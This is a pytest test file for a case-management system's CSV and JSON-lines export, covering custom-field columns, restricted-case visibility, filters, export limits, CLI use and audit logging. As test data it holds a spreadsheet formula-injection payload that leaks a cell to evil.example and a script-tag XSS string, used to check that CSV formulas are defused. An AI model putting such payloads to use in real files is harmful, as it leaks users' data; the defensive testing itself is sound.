"""The case export (CSV and JSON lines): the cases the case list would show, all pages, with one column per
custom field; the same visibility, filters and search; formula cells defused in CSV; on every path (the list
page's links, the API, the CLI); bounded; audited without case content."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import pytest
from sqlalchemy import select

from casemgr.audit.models import AuditEntry
from casemgr.cases import service
from casemgr.cases.schemas import CaseQuery
from casemgr.errors import TooLarge

RANSOM = {"title": "Ransomware on fs01", "description": "Files renamed.", "category": "malicious-code",
          "subcategory": "ransomware", "impact": "high", "urgency": "high"}
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
HOSTILE = 'Say "hi"; <script>alert(1)</script>, a,b \\N ünïcode — end'
SECRET = "zebrafinch"
BASE_COLUMNS = ["reference", "title", "status", "priority", "impact", "urgency", "category", "subcategory",
                "owner", "team", "tags", "created_at", "updated_at", "occurred_at", "detected_at", "resolved_at",
                "closed_at", "resolution", "tlp"]


def define(admin: Any, **fields: Any) -> None:
    response = admin.post("/api/v1/case-fields", json=fields)
    assert response.status_code == 201, response.get_json()


@pytest.fixture
def world(api, open_case):
    """Three fields (one retired after a value was recorded), a ransomware case with values, a case with a
    formula for a title, one with hostile text, a restricted case; `ann` opened them all, `olga` none."""
    admin = api("admin", "ada")
    define(admin, code="backup_status", label="Backup status", type="choice", category="malicious-code",
           options=["intact", "partial", "encrypted"])
    define(admin, code="vectors", label="Vectors", type="multi_choice", options=["mail", "web", "usb"])
    define(admin, code="hosts", label="Hosts", type="number")
    define(admin, code="ransom_paid", label="Ransom paid", type="yes_no")
    ann, olga = api("analyst", "ann"), api("analyst", "olga")
    ransom = open_case(ann, **RANSOM, tags=["ransomware", "fs01"], custom_fields={
        "backup_status": "intact", "vectors": ["mail", "web"], "hosts": "12", "ransom_paid": "no"})
    assert admin.patch("/api/v1/case-fields/hosts", json={"retired": True}).status_code == 200
    formula = open_case(ann, title=FORMULA)
    hostile = open_case(ann, title=HOSTILE, custom_fields={"vectors": ["usb"]})
    restricted = open_case(ann, title=f"Insider case {SECRET}", restricted=True)
    return {"ann": ann, "olga": olga, "admin": admin, "ransom": ransom, "formula": formula, "hostile": hostile,
            "restricted": restricted}


def read_csv(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    text = response.get_data().decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def read_jsonl(response: Any) -> list[dict[str, Any]]:
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.headers["Content-Type"] == "application/x-ndjson"
    return [json.loads(line) for line in response.get_data(as_text=True).splitlines()]


def by_reference(rows: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {r["reference"]: r for r in rows}


def test_the_csv_has_the_case_columns_and_one_per_custom_field_retired_ones_too(world):
    response = world["ann"].get("/api/v1/cases/export.csv")
    rows = read_csv(response)
    assert re.fullmatch(r'attachment; filename="cases-\d{8}T\d{6}Z\.csv"', response.headers["Content-Disposition"])
    header = next(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert header[:len(BASE_COLUMNS)] == BASE_COLUMNS
    assert sorted(header[len(BASE_COLUMNS):]) == ["field.backup_status", "field.hosts", "field.ransom_paid",
                                                  "field.vectors"]
    assert [r["reference"] for r in rows] == [world[k]["reference"] for k in ("restricted", "hostile", "formula",
                                                                             "ransom")]  # newest first, as the list
    ransom = by_reference(rows)[world["ransom"]["reference"]]
    assert {k: ransom[k] for k in ("title", "status", "priority", "impact", "urgency", "category", "subcategory",
                                   "owner", "tags", "tlp", "resolution", "closed_at")} == {
        "title": "Ransomware on fs01", "status": "new", "priority": world["ransom"]["priority"], "impact": "high",
        "urgency": "high", "category": "malicious-code", "subcategory": "ransomware", "owner": "",
        "tags": "fs01, ransomware", "tlp": "amber", "resolution": "", "closed_at": ""}
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?\+00:00", ransom["created_at"])
    # values as the case page shows them; the retired field's value still there
    assert {k: ransom[k] for k in header if k.startswith("field.")} == {
        "field.backup_status": "intact", "field.vectors": "mail, web", "field.hosts": "12",
        "field.ransom_paid": "no"}
    assert by_reference(rows)[world["formula"]["reference"]]["field.backup_status"] == ""


def test_the_json_export_holds_a_case_a_line_with_custom_fields_as_an_object(world):
    response = world["ann"].get("/api/v1/cases/export.json")
    assert re.fullmatch(r'attachment; filename="cases-\d{8}T\d{6}Z\.jsonl"', response.headers["Content-Disposition"])
    rows = by_reference(read_jsonl(response))
    ransom = rows[world["ransom"]["reference"]]
    assert ransom["custom_fields"] == {"backup_status": "intact", "vectors": ["mail", "web"], "hosts": 12,
                                       "ransom_paid": False}  # typed, as GET /api/v1/cases/ID answers
    assert ransom["tags"] == ["fs01", "ransomware"]
    assert ransom["occurred_at"] is None
    assert set(ransom) == {*BASE_COLUMNS, "custom_fields"}
    # verbatim in JSON: no formula guard, no escaping beyond JSON's own
    assert rows[world["formula"]["reference"]]["title"] == FORMULA
    assert rows[world["hostile"]["reference"]]["title"] == HOSTILE
    assert response.get_data().isascii()  # ASCII lines: no reader takes a character (U+2028...) for a break


def test_a_formula_cell_is_defused_and_other_hostile_text_is_kept_verbatim(world):
    rows = by_reference(read_csv(world["ann"].get("/api/v1/cases/export.csv")))
    assert rows[world["formula"]["reference"]]["title"] == "'" + FORMULA
    assert rows[world["hostile"]["reference"]]["title"] == HOSTILE
    assert rows[world["hostile"]["reference"]]["field.vectors"] == "usb"


def test_a_restricted_case_is_exported_only_to_those_who_see_it(world):
    for path in ("/api/v1/cases/export.csv", "/api/v1/cases/export.json"):
        olga = world["olga"].get(path)
        assert olga.status_code == 200
        assert SECRET not in olga.get_data(as_text=True)
        assert world["restricted"]["reference"] not in olga.get_data(as_text=True)
        assert world["ransom"]["reference"] in olga.get_data(as_text=True)
        assert SECRET in world["ann"].get(path).get_data(as_text=True)


def test_admins_see_no_case_content_and_are_refused(world):
    response = world["admin"].get("/api/v1/cases/export.csv")
    assert response.status_code == 403
    assert "do not see case content" in response.get_json()["error"]["message"]


def test_the_filters_and_the_search_of_the_case_list_apply(world):
    ann = world["ann"]
    only = [r["reference"] for r in read_csv(ann.get("/api/v1/cases/export.csv?category=malicious-code"))]
    assert only == [world["ransom"]["reference"]]
    by_field = read_jsonl(ann.get("/api/v1/cases/export.json?field.vectors=usb"))
    assert [r["reference"] for r in by_field] == [world["hostile"]["reference"]]
    searched = read_csv(ann.get(f"/api/v1/cases/export.csv?q={SECRET}"))
    assert [r["reference"] for r in searched] == [world["restricted"]["reference"]]
    oldest_first = read_csv(ann.get("/api/v1/cases/export.csv?sort=created&per_page=1&page=3"))
    assert [r["reference"] for r in oldest_first] == [world[k]["reference"] for k in ("ransom", "formula",
                                                                                     "hostile", "restricted")]
    none = read_csv(ann.get("/api/v1/cases/export.csv?tag=no-such-tag"))
    assert none == []


def test_a_bad_filter_is_refused_naming_it(world):
    response = world["ann"].get("/api/v1/cases/export.csv?status=bogus")
    assert response.status_code == 422
    assert response.get_json()["error"]["field"].startswith("status")


def test_an_export_past_the_limit_is_refused_before_any_row(world, session):
    from casemgr.auth.actor import Actor
    from casemgr.auth.models import User
    from casemgr.cases import export

    actor = Actor(user=session.scalars(select(User).where(User.username == "ann")).one(), via="test")
    with pytest.raises(TooLarge, match="4 cases match; an export holds at most 3: narrow the filters"):
        export.start_export(session, actor, CaseQuery(), "csv", limit=3)
    assert len(export.start_export(session, actor, CaseQuery(), "csv", limit=4).case_ids) == 4


class _Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.links: dict[str, str] = {}
        self._href: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "a":
            self._href = dict(attrs).get("href")

    def handle_data(self, data: str) -> None:
        if self._href is not None and data.strip():
            self.links[data.strip()] = self._href

    def handle_endtag(self, tag: str) -> None:
        if tag == "a":
            self._href = None


def links_on(page: str) -> dict[str, str]:
    parser = _Links()
    parser.feed(page)
    return parser.links


def test_the_case_list_links_to_exports_of_its_current_filters(world, web):
    web.login("ann")
    page = web.get("/cases?category=malicious-code&per_page=1&field.vectors=mail")
    assert page.status_code == 200
    links = links_on(page.get_data(as_text=True))
    assert urlsplit(links["Export CSV"]).path == "/cases/export.csv"
    assert "page" not in links["Export CSV"]
    csv_file = web.get(links["Export CSV"])
    assert csv_file.headers["Content-Disposition"].startswith("attachment; filename=")
    assert [r["reference"] for r in read_csv(csv_file)] == [world["ransom"]["reference"]]
    json_file = web.get(links["Export JSON"])
    assert [r["reference"] for r in read_jsonl(json_file)] == [world["ransom"]["reference"]]
    everything = links_on(web.get("/cases").get_data(as_text=True))["Export CSV"]
    assert len(read_csv(web.get(everything))) == 4


def test_a_bad_filter_on_the_page_export_shows_the_list_with_the_error(world, web):
    web.login("ann")
    response = web.get("/cases/export.csv?since=yesterday")
    assert response.status_code == 422
    assert "since" in response.get_data(as_text=True)
    assert response.headers["Content-Type"].startswith("text/html")


def test_the_cli_exports_what_the_user_named_by_as_sees(world, run_cli, tmp_path):
    out = tmp_path / "cases.csv"
    result = run_cli("case", "export", "--format", "csv", "--as", "olga", "--output", str(out))
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 3
    assert SECRET not in out.read_text(encoding="utf-8")
    assert "exported 3 case(s)" in result.output
    filtered = run_cli("case", "export", "--format", "json", "--category", "malicious-code", "--field",
                       "backup_status=intact")
    assert filtered.exit_code == 0, filtered.output
    lines = [json.loads(line) for line in filtered.stdout.splitlines()]
    assert [r["reference"] for r in lines] == [world["ransom"]["reference"]]
    assert lines[0]["custom_fields"]["backup_status"] == "intact"
    bad = run_cli("case", "export", "--format", "csv", "--status", "bogus")
    assert bad.exit_code != 0
    assert "status" in bad.output


def test_every_export_is_audited_with_its_filters_and_row_count_and_no_case_content(world, session):
    ann = world["ann"]
    assert ann.get(f"/api/v1/cases/export.csv?q={SECRET}&category=insider-threat").status_code == 200
    assert ann.get("/api/v1/cases/export.json?tag=fs01&field.vectors=mail&state=open").status_code == 200
    log = world["admin"].get("/api/v1/audit?action=case.export").get_json()  # admins read the audit log
    assert [e["action"] for e in log["items"]] == ["case.export", "case.export"]
    assert SECRET not in json.dumps(log)
    entries = session.scalars(select(AuditEntry).where(AuditEntry.action == "case.export")
                              .order_by(AuditEntry.seq)).all()
    assert [(e.actor_name, e.summary["format"], e.summary["rows"]) for e in entries] == [
        ("ann", "csv", 0), ("ann", "json", 1)]
    assert entries[0].summary["filters"]["category"] == "insider-threat"
    assert entries[0].summary["filters"]["content_filters"] == ["q"]
    assert entries[1].summary["filters"]["state"] == "open"
    assert entries[1].summary["filters"]["content_filters"] == ["tag", "field.vectors"]
    recorded = json.dumps([e.summary for e in entries])
    for content in (SECRET, "fs01", "mail", "Ransomware"):
        assert content not in recorded


def test_the_openapi_document_describes_both_exports_with_the_list_parameters(app):
    doc = app.test_client().get("/api/v1/openapi.json").get_json()
    listed = {p["name"] for p in doc["paths"]["/api/v1/cases"]["get"]["parameters"]}
    for path, media in (("/api/v1/cases/export.csv", "text/csv"), ("/api/v1/cases/export.json",
                                                                   "application/x-ndjson")):
        op = doc["paths"][path]["get"]
        assert {p["name"] for p in op["parameters"]} == listed
        assert media in op["responses"]["200"]["content"]
        assert "413" in op["responses"]


def test_the_service_facade_names_the_export():
    assert {"start_export", "export_chunks", "CaseExport"} <= set(service.__all__)
